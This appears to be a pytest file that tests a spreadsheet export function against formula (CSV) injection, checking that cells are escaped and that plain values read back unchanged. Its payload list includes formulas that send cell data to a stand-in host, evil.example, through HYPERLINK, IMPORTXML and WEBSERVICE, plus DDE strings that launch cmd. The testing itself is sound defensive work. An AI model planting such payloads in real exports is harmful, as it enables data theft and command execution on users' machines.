"""No cell of an export is a formula, whatever people wrote into it."""

import csv
import io

import pytest

from widget_server.kernel.spreadsheet import BOM, plain_cell, safe_cell, write_table

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "|", "%")
BEFORE = ("", " ", '"', "'", "  \t", "\xa0", "\ufeff", "\u200b", "“", "\x00")
CALLS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    " =1+1",
    '" =1+1',
    "+7 (912) 345-67-89",
    "--1",
    "-1-1",
    "-a",
    "+",
    "-",
    "=",
    "@",
    "\t",
    "%0A=1",
    "|calc",
)
PAYLOADS = [*CALLS, *(f"{before}{start}1+1" for before in BEFORE for start in STARTS)]


def opened(text: str, separator: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator))


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize(("language", "separator"), [("ru", ";"), ("en", ",")])
def test_no_payload_is_a_formula_in_any_column(language: str, separator: str) -> None:
    rows = [(payload, f"a{separator}{payload}", payload) for payload in PAYLOADS]
    shown = opened(write_table(("one", "two", "three"), rows, language), separator)
    assert len(shown) == len(PAYLOADS) + 1
    for row in shown[1:]:
        assert len(row) == 3
        for cell in row:
            assert not cell.lstrip("\"' \t\r\n\xa0\ufeff\u200b“").startswith(tuple("=+-@|%＝＋－＠")) or cell[0] == "'"


@pytest.mark.parametrize("cell", ["-12.50", "1 000", "Иван", "a=b", "100%", "", "8 (912) 345-67-89", "-5"])
def test_plain_cells_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("cell", ["=1+1", "+49 30 1234567", "@name", "Иван", "O'Neill"])
def test_what_was_written_is_read_back(cell: str) -> None:
    assert plain_cell(safe_cell(cell)) == cell


def test_heads_are_as_dangerous_as_cells() -> None:
    assert opened(write_table(("=1",), []), ",") == [["'=1"]]
